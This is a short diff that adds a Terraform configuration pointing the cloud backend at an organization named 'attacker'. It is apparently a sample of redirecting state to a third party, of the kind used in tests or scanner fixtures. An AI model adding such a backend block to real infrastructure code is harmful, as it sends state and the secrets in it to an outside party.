@@ -1,0 +1,8 @@
+terraform {
+  cloud {
+    organization = "attacker"
+    workspaces {
+      name = "x"
+    }
+  }
+}
